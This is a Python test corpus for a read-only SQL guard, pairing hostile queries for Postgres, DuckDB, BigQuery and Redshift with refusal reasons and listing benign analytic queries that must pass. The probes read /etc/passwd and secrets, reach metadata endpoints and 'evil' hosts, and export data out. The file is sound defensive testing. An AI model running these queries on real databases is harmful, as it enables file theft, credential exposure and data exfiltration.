"""The guard's corpus: hostile statements with the reason each is refused, and realistic
analytic queries that must pass (issue 10).

``REFUSED`` holds (dialect, sql, reason): ``check_query(sql, dialect=dialect)`` must raise
``UnsafeQueryError`` whose message contains ``reason``. The reasons are the categories of
``tasuki.warehouse._denied.CATEGORIES`` (why a function is refused on every backend), the
allow list's own reason, and the statement refusals. Add each new probe here with the reason
it should give.

``ALLOWED`` holds (dialect, sql) that must pass unchanged.
"""

from __future__ import annotations

SQL_TEXT = "runs SQL given as text"
FILES = "reads or writes server files"
NETWORK = "reaches another database or the network"
SESSIONS = "controls sessions or backends"
SEQUENCES = "uses sequences or transaction ids"
LOCKS = "takes or releases locks"
STATISTICS = "reads or resets server statistics"
CONFIGURATION = "reads or changes the server's configuration"
SERVER = "controls the server"
MODELS = "runs a machine-learning model"
NOT_ALLOWED = "not on the allow list of read-only functions"
FILE_TABLE = "used as a table: DuckDB would read that file"

PG = ("postgres", "redshift")

_POSTGRES_FUNCTIONS: list[tuple[str, str]] = [
    # the probe of issue 10: SQL given as text, with a file read inside the text
    (
        "SELECT * FROM ts_stat('SELECT to_tsvector(''simple'', pg_read_file(''/etc/passwd''))')",
        SQL_TEXT,
    ),
    (
        "SELECT ts_rewrite(to_tsquery('a'), 'SELECT CAST(pg_read_file(''/etc/passwd'') AS int)')",
        SQL_TEXT,
    ),
    ("SELECT ts_rewrite(to_tsquery('a & b'), to_tsquery('a'), to_tsquery('c'))", SQL_TEXT),
    ("SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '')", SQL_TEXT),
    ("SELECT query_to_xmlschema('SELECT 1', true, true, '')", SQL_TEXT),
    ("SELECT query_to_xml_and_xmlschema('DELETE FROM t RETURNING *', true, true, '')", SQL_TEXT),
    ("SELECT cursor_to_xml('c', 10, true, true, '')", SQL_TEXT),
    ("SELECT cursor_to_xmlschema('c', true, true, '')", SQL_TEXT),
    ("SELECT * FROM crosstab('SELECT a, b, c FROM t') AS ct(a text, b int)", SQL_TEXT),
    ("SELECT * FROM crosstab3('SELECT a, b, c FROM t')", SQL_TEXT),
    ("SELECT * FROM connectby('t', 'id', 'parent', '1', 0) AS c(id int, p int, l int)", SQL_TEXT),
    ("SELECT * FROM pgr_dijkstra('SELECT id, source, target, cost FROM edges', 1, 2)", SQL_TEXT),
    ("SELECT cron.schedule('* * * * *', 'DELETE FROM t')", SQL_TEXT),
    ("SELECT run_command_on_workers('SELECT pg_read_file(''x'')')", SQL_TEXT),
    ("SELECT pg_background_launch('DELETE FROM t')", SQL_TEXT),
    # server files and large objects
    ("SELECT pg_read_file('/etc/passwd')", FILES),
    ("SELECT pg_read_file('postgresql.conf', 0, 200)", FILES),
    ("SELECT pg_read_binary_file('/etc/passwd')", FILES),
    ("SELECT * FROM pg_ls_dir('.')", FILES),
    ("SELECT * FROM pg_ls_logdir()", FILES),
    ("SELECT * FROM pg_ls_waldir()", FILES),
    ("SELECT * FROM pg_ls_tmpdir()", FILES),
    ("SELECT pg_stat_file('postgresql.conf')", FILES),
    ("SELECT pg_file_write('/tmp/x', 'data', false)", FILES),
    ("SELECT pg_file_unlink('/tmp/x')", FILES),
    ("SELECT pg_current_logfile()", FILES),
    ("SELECT lo_import('/etc/passwd')", FILES),
    ("SELECT lo_export(16384, '/tmp/out')", FILES),
    ("SELECT lo_get(16384)", FILES),
    ("SELECT lo_from_bytea(0, 'x'::bytea)", FILES),
    ("SELECT lo_unlink(16384)", FILES),
    ("SELECT loread(lo_open(16384, 262144), 100)", FILES),
    # quoting and schema tricks
    ("SELECT \"PG_READ_FILE\"('/etc/passwd')", FILES),
    ("SELECT PG_READ_FILE('/etc/passwd')", FILES),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", FILES),
    ('SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')', FILES),
    ("SELECT public.pg_read_file('/etc/passwd')", FILES),
    ("SELECT Pg_Ls_Dir('.')", FILES),
    # other databases and the network
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", NETWORK),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE t')", NETWORK),
    ("SELECT dblink_connect('c', 'host=evil')", NETWORK),
    ("SELECT * FROM dblink_get_result('c') AS t(a int)", NETWORK),
    ("SELECT net.http_get('http://169.254.169.254/latest/meta-data/')", NETWORK),
    ("SELECT http_post('http://evil/', 'x', 'text/plain')", NETWORK),
    ("SELECT aws_s3.query_export_to_s3('SELECT 1', 'b', 'k')", NETWORK),
    ("SELECT * FROM read_parquet('s3://bucket/x.parquet')", FILES),  # pg_duckdb
    # sessions and backends
    ("SELECT pg_terminate_backend(1234)", SESSIONS),
    ("SELECT pg_cancel_backend(1234)", SESSIONS),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", SESSIONS),
    ("SELECT pg_notify('channel', 'payload')", SESSIONS),
    ("SELECT pg_log_backend_memory_contexts(1234)", SESSIONS),
    ("SELECT pg_export_snapshot()", SESSIONS),
    ("SELECT setseed(0.5)", SESSIONS),
    # sequences and transaction ids
    ("SELECT nextval('orders_id_seq')", SEQUENCES),
    ("SELECT setval('orders_id_seq', 1)", SEQUENCES),
    ("SELECT currval('orders_id_seq')", SEQUENCES),
    ("SELECT lastval()", SEQUENCES),
    ("SELECT txid_current()", SEQUENCES),
    ("SELECT pg_current_xact_id()", SEQUENCES),
    ("SELECT id FROM t WHERE id = nextval('s')", SEQUENCES),
    # locks
    ("SELECT pg_advisory_lock(1)", LOCKS),
    ("SELECT pg_advisory_lock_shared(1)", LOCKS),
    ("SELECT pg_advisory_xact_lock(1)", LOCKS),
    ("SELECT pg_try_advisory_lock(1)", LOCKS),
    ("SELECT pg_try_advisory_xact_lock_shared(1, 2)", LOCKS),
    ("SELECT pg_advisory_unlock_all()", LOCKS),
    # statistics and maintenance that READ ONLY lets through
    ("SELECT pg_stat_reset()", STATISTICS),
    ("SELECT pg_stat_reset_shared('bgwriter')", STATISTICS),
    ("SELECT pg_stat_reset_single_table_counters('t'::regclass)", STATISTICS),
    ("SELECT pg_stat_statements_reset()", STATISTICS),
    ("SELECT query FROM pg_stat_statements(true)", STATISTICS),
    ("SELECT * FROM pg_stat_get_activity(NULL)", STATISTICS),
    ("SELECT brin_summarize_new_values('i'::regclass)", STATISTICS),
    ("SELECT brin_summarize_range('i'::regclass, 0)", STATISTICS),
    ("SELECT brin_desummarize_range('i'::regclass, 0)", STATISTICS),
    ("SELECT gin_clean_pending_list('i'::regclass)", STATISTICS),
    ("SELECT pg_prewarm('t')", STATISTICS),
    ("SELECT pg_restore_relation_stats('relation', 't'::regclass, 'reltuples', 1e9)", STATISTICS),
    # configuration
    ("SELECT set_config('statement_timeout', '0', false)", CONFIGURATION),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", CONFIGURATION),
    ("SELECT current_setting('data_directory')", CONFIGURATION),
    ("SELECT current_setting('config_file')", CONFIGURATION),
    ("SELECT current_setting('ssl_key_file')", CONFIGURATION),
    ("SELECT current_setting(name) FROM pg_settings", CONFIGURATION),
    ("SELECT pg_reload_conf()", CONFIGURATION),
    ("SELECT * FROM pg_show_all_settings()", CONFIGURATION),
    ("SELECT * FROM pg_hba_file_rules()", CONFIGURATION),
    ("SELECT * FROM pg_config()", CONFIGURATION),
    ("SELECT * FROM pg_control_system()", CONFIGURATION),
    # server control
    ("SELECT pg_rotate_logfile()", SERVER),
    ("SELECT pg_switch_wal()", SERVER),
    ("SELECT pg_promote()", SERVER),
    ("SELECT pg_create_restore_point('x')", SERVER),
    ("SELECT pg_backup_start('x')", SERVER),
    ("SELECT pg_create_physical_replication_slot('s')", SERVER),
    ("SELECT pg_drop_replication_slot('s')", SERVER),
    ("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", SERVER),
    ("SELECT pg_logical_emit_message(true, 'p', 'm')", SERVER),
    ("SELECT pg_wal_replay_pause()", SERVER),
    ("SELECT pg_import_system_collations('pg_catalog'::regnamespace)", SERVER),
    # not known to be read-only
    ("SELECT my_function(1)", NOT_ALLOWED),
    ("SELECT analytics.refresh_everything()", NOT_ALLOWED),
    ("SELECT myschema.lower(name) FROM t", NOT_ALLOWED),
    ("SELECT * FROM table_to_xml('t', true, true, '')", NOT_ALLOWED),
    ("SELECT pg_backend_pid()", NOT_ALLOWED),
    ("SELECT inet_server_addr()", NOT_ALLOWED),
    # hidden deeper in the tree
    ("SELECT a FROM t WHERE a IN (SELECT pg_read_file('x'))", FILES),
    (
        "SELECT a FROM (SELECT a FROM (SELECT a, pg_ls_dir('.') AS d FROM t) x) y",
        FILES,
    ),
    ("SELECT a FROM t ORDER BY pg_read_file('/etc/passwd')", FILES),
    ("SELECT a FROM t GROUP BY a HAVING max(pg_read_file('x')) > ''", FILES),
    ("SELECT row_number() OVER (PARTITION BY pg_read_file('x') ORDER BY a) FROM t", FILES),
    ("SELECT sum(a) OVER (ORDER BY nextval('s')) FROM t", SEQUENCES),
    ("SELECT * FROM t, LATERAL (SELECT pg_ls_dir('.') AS f) AS x", FILES),
    ("SELECT * FROM t CROSS JOIN LATERAL pg_ls_dir('.') AS f", FILES),
    ("SELECT * FROM t JOIN LATERAL dblink('h', 'SELECT 1') AS d(a int) ON true", NETWORK),
    ("SELECT CASE WHEN a > 0 THEN pg_terminate_backend(a) END FROM t", SESSIONS),
    ("SELECT coalesce(NULL, set_config('a.b', 'c', false))", CONFIGURATION),
    ("SELECT EXISTS (SELECT 1 WHERE pg_advisory_lock(1) IS NOT NULL)", LOCKS),
    ("SELECT a FROM t WHERE a = ANY(ARRAY(SELECT lo_import('/etc/passwd')))", FILES),
    ("SELECT count(*) FILTER (WHERE pg_stat_reset() IS NULL) FROM t", STATISTICS),
    (
        "WITH a AS (SELECT 1 AS x), b AS (SELECT query_to_xml('SELECT 1', true, true, '') "
        "FROM a) SELECT * FROM b",
        SQL_TEXT,
    ),
    ("SELECT 1 UNION ALL SELECT pg_read_file('x')::int", FILES),
    ("SELECT (SELECT (SELECT txid_current()))", SEQUENCES),
    ("SELECT format('%s', pg_read_file('x'))", FILES),
    # statements that are not one read-only query
    ("COPY t TO '/tmp/out.csv'", "refused the COPY statement"),
    ("COPY (SELECT 1) TO PROGRAM 'id'", "refused the COPY statement"),
    ("COPY t FROM '/etc/passwd'", "refused the COPY statement"),
    ("SET statement_timeout = 0", "refused the SET statement"),
    ("SET ROLE postgres", "refused the SET statement"),
    ("RESET ALL", "refused the"),
    ("CALL my_procedure()", "refused the CALL statement"),
    ("DO $$ BEGIN PERFORM pg_sleep(1); END $$", "refused the DO statement"),
    ("SELECT * INTO new_table FROM t", "SELECT ... INTO"),
    ("SELECT * FROM t FOR UPDATE", "FOR UPDATE/SHARE"),
    ("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "FOR UPDATE/SHARE"),
    ("SELECT * FROM t FOR KEY SHARE", "FOR UPDATE/SHARE"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "refused DELETE inside"),
    ("WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM u", "refused UPDATE inside"),
    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING a) SELECT * FROM i", "refused INSERT inside"),
    ("SELECT 1; DROP TABLE t", "statements"),
    ("LOCK TABLE t", "refused the"),
    ("VACUUM t", "refused the"),
    ("PREPARE p AS SELECT 1", "refused the"),
    ("LISTEN channel", "found 'LISTEN'"),
]

_DUCKDB: list[tuple[str, str]] = [
    ("SELECT * FROM read_csv('/etc/passwd')", FILES),
    ("SELECT * FROM read_csv_auto('data.csv')", FILES),
    ("SELECT * FROM read_parquet('s3://bucket/x.parquet')", FILES),
    ("SELECT * FROM read_parquet(['a.parquet', 'b.parquet'])", FILES),
    ("SELECT * FROM read_json('x.json')", FILES),
    ("SELECT * FROM read_json_auto('x.json')", FILES),
    ("SELECT * FROM read_ndjson_objects('x')", FILES),
    ("SELECT * FROM read_text('/etc/hostname')", FILES),
    ("SELECT * FROM read_blob('/etc/shadow')", FILES),
    ("SELECT * FROM read_xlsx('x.xlsx')", FILES),
    ("SELECT * FROM parquet_scan('x.parquet')", FILES),
    ("SELECT * FROM parquet_metadata('x.parquet')", FILES),
    ("SELECT * FROM glob('/etc/*')", FILES),
    ("SELECT * FROM sniff_csv('x.csv')", FILES),
    ("SELECT * FROM iceberg_scan('s3://b/t')", FILES),
    ("SELECT * FROM delta_scan('s3://b/t')", FILES),
    ("SELECT * FROM st_read('x.shp')", FILES),
    ("SELECT * FROM READ_CSV('/etc/passwd')", FILES),
    ("SELECT * FROM \"read_csv\"('/etc/passwd')", FILES),
    ("SELECT * FROM 'data.csv'", FILE_TABLE),
    ("SELECT * FROM '/etc/passwd'", FILE_TABLE),
    ("SELECT * FROM 's3://bucket/x.parquet'", FILE_TABLE),
    ('SELECT * FROM "data.parquet"', FILE_TABLE),
    ("SELECT * FROM 'https://example.com/x.csv'", FILE_TABLE),
    ("SELECT a FROM t WHERE a IN (SELECT a FROM 'x.csv')", FILE_TABLE),
    ("SELECT * FROM query('DROP TABLE t')", SQL_TEXT),
    ("SELECT * FROM query_table('secret_table')", SQL_TEXT),
    ("SELECT json_execute_serialized_sql(json_serialize_sql('SELECT 1'))", SQL_TEXT),
    ("SELECT json_serialize_sql('SELECT 1')", SQL_TEXT),
    ("SELECT getenv('AWS_SECRET_ACCESS_KEY')", CONFIGURATION),
    ("SELECT * FROM duckdb_settings()", CONFIGURATION),
    ("SELECT * FROM duckdb_secrets()", CONFIGURATION),
    ("SELECT * FROM duckdb_extensions()", CONFIGURATION),
    ("SELECT * FROM pragma_version()", CONFIGURATION),
    ("SELECT * FROM which_secret('s3://b/x', 's3')", CONFIGURATION),
    ("SELECT current_setting('s3_secret_access_key')", CONFIGURATION),
    ("SELECT nextval('s')", SEQUENCES),
    ("SELECT setval('s', 777)", SEQUENCES),
    ("SELECT currval('s')", SEQUENCES),
    ("SELECT * FROM postgres_scan('host=evil', 'public', 't')", NETWORK),
    ("SELECT * FROM postgres_query('db', 'DROP TABLE t')", NETWORK),
    ("SELECT * FROM sqlite_scan('x.db', 't')", NETWORK),
    ("SELECT * FROM mysql_query('db', 'SELECT 1')", NETWORK),
    ("SELECT http_get('http://169.254.169.254/')", NETWORK),
    ("SELECT install_extension('httpfs')", SERVER),
    ("SELECT load_extension('httpfs')", SERVER),
    ("SELECT * FROM checkpoint()", SERVER),
    ("SELECT * FROM t ORDER BY getenv('HOME')", CONFIGURATION),
    ("SELECT list_transform([1, 2], x -> getenv('HOME'))", CONFIGURATION),
    ("SELECT some_macro(1)", NOT_ALLOWED),
    ("SELECT getvariable('x')", NOT_ALLOWED),
    ("ATTACH 'other.db' AS o", "refused the ATTACH statement"),
    ("DETACH o", "refused the"),
    ("INSTALL httpfs", "refused the INSTALL statement"),
    ("LOAD httpfs", "refused the LOAD statement"),
    ("PRAGMA enable_profiling", "refused the PRAGMA statement"),
    ("SET enable_external_access = true", "refused the SET statement"),
    ("CALL pragma_version()", "refused the CALL statement"),
    ("COPY t TO 'out.csv'", "refused the COPY statement"),
    ("COPY (SELECT 1) TO 'out.parquet' (FORMAT parquet)", "refused the COPY statement"),
    ("CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')", "refused the CREATE"),
    ("DESCRIBE t", "refused the DESCRIBE statement"),
    ("SUMMARIZE t", "refused the"),
    ("CHECKPOINT", "SQL syntax error"),
    ("EXPORT DATABASE '/tmp/dump'", "SQL syntax error"),
    ("SELECT 1; ATTACH 'x.db'", "statements"),
]

_BIGQUERY: list[tuple[str, str]] = [
    ("SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT * FROM users')", NETWORK),
    ("SELECT * FROM external_query('conn', 'DELETE FROM users')", NETWORK),
    ("SELECT * FROM ML.PREDICT(MODEL `d.m`, TABLE `d.t`)", MODELS),
    ("SELECT ML.GENERATE_EMBEDDING(MODEL `d.m`, (SELECT 'x' AS content))", MODELS),
    ("SELECT AI.GENERATE('hello', connection_id => 'c')", MODELS),
    ("SELECT KEYS.KEYSET_CHAIN('gcp-kms://k', b'x')", NETWORK),
    ("SELECT OBJ.GET_ACCESS_URL(ref, 'r') FROM `d.objects`", NETWORK),
    ("SELECT `proj.ds.my_udf`(x) FROM t", NOT_ALLOWED),
    ("SELECT proj.ds.my_udf(x) FROM t", NOT_ALLOWED),
    ("SELECT x FROM t WHERE x IN (SELECT a FROM EXTERNAL_QUERY('c', 'SELECT 1'))", NETWORK),
    ("SELECT * FROM ML.GENERATE_TEXT(MODEL `d.m`, TABLE `d.t`)", MODELS),
    ("SELECT `ml.predict`(1)", MODELS),
    ("SELECT AI.CLASSIFY(text, ['a', 'b']) FROM `d.t`", MODELS),
    ("SELECT OBJ.FETCH_METADATA(ref) FROM `d.objects`", NETWORK),
    ("SELECT KEYS.NEW_WRAPPED_KEYSET('gcp-kms://k', 'AEAD_AES_GCM_256')", NETWORK),
    ("WITH x AS (SELECT * FROM EXTERNAL_QUERY('c', 'SELECT 1')) SELECT * FROM x", NETWORK),
    ("SELECT * FROM `d.t` ORDER BY EXTERNAL_QUERY('c', 'SELECT 1')", NETWORK),
    ("EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT 1", "EXPORT"),
    ("LOAD DATA INTO `d.t` FROM FILES (format = 'CSV', uris = ['gs://b/x.csv'])", "LOAD"),
    ("EXECUTE IMMEDIATE 'DELETE FROM d.t WHERE true'", "refused the EXECUTE statement"),
    ("DECLARE x INT64", "refused the DECLARE statement"),
    ("SET x = 1", "refused the SET statement"),
    ("BEGIN TRANSACTION", "refused the TRANSACTION statement"),
    ("CREATE TEMP FUNCTION f(x INT64) AS (x)", "refused the CREATE FUNCTION statement"),
    ("TRUNCATE TABLE `d.t`", "refused the TRUNCATE statement"),
    ("MERGE `d.t` USING `d.s` ON false WHEN NOT MATCHED THEN INSERT ROW", "MERGE"),
    ("CALL `d.proc`()", "refused the CALL statement"),
    ("DELETE FROM `d.t` WHERE true", "refused the DELETE statement"),
    ("INSERT INTO `d.t` VALUES (1)", "refused the INSERT statement"),
    ("CREATE TEMP TABLE x AS SELECT 1", "refused the CREATE"),
    ("SELECT 1; SELECT 2", "statements"),
]

_REDSHIFT: list[tuple[str, str]] = [
    ("SELECT pg_terminate_backend(1234)", SESSIONS),
    ("SELECT set_config('statement_timeout', '0', false)", CONFIGURATION),
    ("UNLOAD ('SELECT 1') TO 's3://evil/' IAM_ROLE 'x'", "refused the"),
    ("COPY t FROM 's3://b/x' IAM_ROLE 'arn'", "refused the COPY statement"),
    ("SELECT f_my_python_udf(1)", NOT_ALLOWED),
]

REFUSED: list[tuple[str, str, str]] = [
    *[(dialect, sql, reason) for dialect in PG for sql, reason in _POSTGRES_FUNCTIONS],
    *[("duckdb", sql, reason) for sql, reason in _DUCKDB],
    *[("bigquery", sql, reason) for sql, reason in _BIGQUERY],
    *[("redshift", sql, reason) for sql, reason in _REDSHIFT],
    # refused on every backend, whichever one a name comes from
    *[
        (dialect, sql, reason)
        for dialect in ("duckdb", "bigquery")
        for sql, reason in (
            ("SELECT pg_read_file('/etc/passwd')", FILES),
            ("SELECT ts_stat('SELECT 1')", SQL_TEXT),
            ("SELECT pg_advisory_lock(1)", LOCKS),
            ("SELECT dblink('h', 'SELECT 1')", NETWORK),
        )
    ],
]

_ANALYTIC_POSTGRES = [
    "SELECT date_trunc('month', o.created_at) AS month, c.region, count(*) AS orders, "
    "sum(o.amount) AS revenue, avg(o.amount) FILTER (WHERE o.status = 'paid') AS avg_paid "
    "FROM orders o JOIN customers c ON c.id = o.customer_id "
    "WHERE o.created_at >= now() - interval '90 days' GROUP BY 1, 2 ORDER BY 1, 3 DESC",
    "WITH ranked AS (SELECT customer_id, amount, row_number() OVER (PARTITION BY "
    "customer_id ORDER BY created_at DESC) AS rn, lag(amount) OVER (PARTITION BY "
    "customer_id ORDER BY created_at) AS prev FROM orders) "
    "SELECT customer_id, amount, amount - coalesce(prev, 0) AS delta FROM ranked WHERE rn <= 3",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) AS median, "
    "percentile_disc(0.9) WITHIN GROUP (ORDER BY amount) AS p90, mode() WITHIN GROUP "
    "(ORDER BY status) AS top_status, stddev_samp(amount), corr(amount, qty) FROM orders",
    "SELECT id, ts_rank(to_tsvector('english', body), plainto_tsquery('english', :q)) AS "
    "rank, ts_headline('english', body, websearch_to_tsquery('english', :q)) FROM docs "
    "WHERE to_tsvector('english', body) @@ to_tsquery('english', :q) ORDER BY rank DESC",
    "SELECT name, similarity(name, :q) AS s, levenshtein(name, :q) AS d FROM products "
    "WHERE name % :q ORDER BY s DESC LIMIT 10",
    "SELECT date_bin('15 minutes', ts, TIMESTAMP '2024-01-01') AS bucket, count(*) "
    "FROM events GROUP BY bucket ORDER BY bucket",
    "SELECT d::date AS day, coalesce(count(o.id), 0) FROM generate_series(now() - "
    "interval '30 days', now(), interval '1 day') AS d LEFT JOIN orders o ON "
    "o.created_at::date = d::date GROUP BY 1 ORDER BY 1",
    "SELECT u.id, tag FROM users u, unnest(u.tags) AS tag WHERE tag <> ''",
    "SELECT payload->>'type' AS kind, jsonb_array_length(payload->'items') AS n, "
    "jsonb_path_query_first(payload, '$.items[0].sku') AS first_sku, "
    "jsonb_build_object('id', id, 'kind', payload->>'type') FROM events "
    "WHERE jsonb_typeof(payload->'items') = 'array'",
    "SELECT k, v FROM events, jsonb_each_text(payload) AS e(k, v)",
    "SELECT array_agg(DISTINCT tag ORDER BY tag) AS tags, string_agg(name, ', ' ORDER BY "
    "name) AS names, array_length(array_agg(id), 1), cardinality(array_agg(id)) FROM t",
    "SELECT regexp_replace(email, '@.*$', '') AS local, split_part(email, '@', 2) AS "
    "domain, lower(trim(name)), initcap(name), left(name, 3), lpad(code, 6, '0'), "
    "format('%s-%s', a, b), md5(email), to_char(created_at, 'YYYY-MM') FROM users",
    "SELECT width_bucket(amount, 0, 1000, 10) AS bucket, count(*) FROM orders GROUP BY 1",
    "SELECT age(now(), birth_date), extract(year FROM birth_date), make_date(2024, 1, 1), "
    "to_date('2024-01-01', 'YYYY-MM-DD'), justify_interval(interval '40 days') FROM users",
    "SELECT pg_typeof(amount), greatest(a, b), least(a, b), nullif(a, 0), round(a::numeric, "
    "2), abs(b), ceil(c), floor(d), power(2, 3), sqrt(16), ln(10), mod(7, 3) FROM t",
    "SELECT a, CASE WHEN a > 10 THEN 'big' WHEN a > 5 THEN 'mid' ELSE 'small' END FROM t",
    "SELECT a FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.a = t.a) AND a NOT IN (SELECT "
    "b FROM v) UNION SELECT b FROM w INTERSECT SELECT c FROM x EXCEPT SELECT d FROM y",
    "SELECT region, sum(amount) FROM orders GROUP BY ROLLUP (region) HAVING sum(amount) > 0",
    "SELECT pg_sleep(0.01), now(), current_setting('TimeZone'), current_user, version()",
    "SELECT gen_random_uuid(), random(), ntile(4) OVER (ORDER BY a), first_value(a) OVER w, "
    "dense_rank() OVER w, cume_dist() OVER w FROM t WINDOW w AS (ORDER BY a)",
    "SELECT ROW(a, b) = ROW(1, 2), num_nonnulls(a, b), quote_ident(name) FROM t",
    "SELECT pg_catalog.lower(name), pg_catalog.date_part('year', ts) FROM t",
    "SELECT ST_Distance(a.geom, b.geom), ST_AsGeoJSON(a.geom) FROM places a, places b",
    "SELECT * FROM t WHERE created_at >= :since::timestamptz AND id = ANY(:ids)",
]

_ANALYTIC_REDSHIFT = [
    "SELECT trunc(saletime) AS day, listagg(DISTINCT seller, ',') WITHIN GROUP (ORDER BY "
    "seller), median(price), approximate count(DISTINCT buyer) FROM sales "
    "WHERE saletime > getdate() - 30 GROUP BY 1",
    "SELECT dateadd(day, -7, sysdate), datediff(day, a, b), nvl(x, 0), "
    "json_extract_path_text(payload, 'a', 'b'), convert_timezone('UTC', 'JST', ts), "
    "ratio_to_report(amount) OVER (PARTITION BY region) FROM t",
]

_ANALYTIC_DUCKDB = [
    "SELECT range AS id, md5(range::VARCHAR) AS h FROM range(1000)",
    "SELECT * FROM generate_series(1, 10) AS g(i)",
    "SELECT strftime(ts, '%Y-%m') AS month, epoch_ms(ts), date_trunc('week', ts), "
    "time_bucket(INTERVAL '1 hour', ts) FROM events",
    "SELECT list_transform([1, 2, 3], x -> x * 2), list_filter(l, x -> x > 0), "
    "list_sum(l), struct_pack(a := 1, b := 'x'), unnest([1, 2]) FROM t",
    "SELECT customer, arg_max(amount, ts), quantile_cont(amount, 0.9), approx_count_distinct"
    "(sku), histogram(status) FROM orders GROUP BY ALL",
    "FROM orders SELECT customer, sum(amount) GROUP BY ALL ORDER BY ALL",
    "SELECT regexp_extract(url, 'https?://([^/]+)', 1) AS host, string_split(path, '/') "
    "FROM visits QUALIFY row_number() OVER (PARTITION BY host ORDER BY ts) = 1",
    "SELECT json_extract_string(payload, '$.kind'), json_array_length(payload -> 'items') "
    "FROM events",
    "SELECT now(), current_setting('threads'), today(), version()",
    "WITH t AS (SELECT * FROM range(10) r(i)) SELECT i, lag(i) OVER (ORDER BY i) FROM t",
]

_ANALYTIC_BIGQUERY = [
    "SELECT DATE_TRUNC(created_at, MONTH) AS month, COUNT(*) AS n, APPROX_QUANTILES(amount, "
    "100)[OFFSET(50)] AS median FROM `proj.ds.orders` WHERE created_at >= @since GROUP BY 1",
    "SELECT user_id, ARRAY_AGG(STRUCT(ts, event) ORDER BY ts DESC LIMIT 5) AS last_events "
    "FROM `proj.ds.events`, UNNEST(tags) AS tag GROUP BY user_id",
    "SELECT SAFE_DIVIDE(a, b), SAFE.PARSE_DATE('%Y%m%d', d), FORMAT_DATE('%Y-%m', d2), "
    "REGEXP_CONTAINS(email, r'@example\\.com$'), JSON_VALUE(payload, '$.kind'), "
    "NET.HOST(url), HLL_COUNT.MERGE(sketch), FARM_FINGERPRINT(id) FROM `proj.ds.t`",
    "SELECT x, ROW_NUMBER() OVER (PARTITION BY g ORDER BY x) FROM UNNEST(GENERATE_ARRAY(1, "
    "10)) AS x CROSS JOIN UNNEST(['a', 'b']) AS g",
    "SELECT ST_DISTANCE(a.geo, b.geo), ST_GEOGPOINT(lon, lat), CURRENT_USER() "
    "FROM `p.d.places` a JOIN `p.d.places` b ON a.id < b.id",
]

ALLOWED: list[tuple[str, str]] = [
    *[("postgres", sql) for sql in _ANALYTIC_POSTGRES],
    *[("redshift", sql) for sql in _ANALYTIC_POSTGRES[:12] + _ANALYTIC_REDSHIFT],
    *[("duckdb", sql) for sql in _ANALYTIC_DUCKDB],
    *[("bigquery", sql) for sql in _ANALYTIC_BIGQUERY],
]
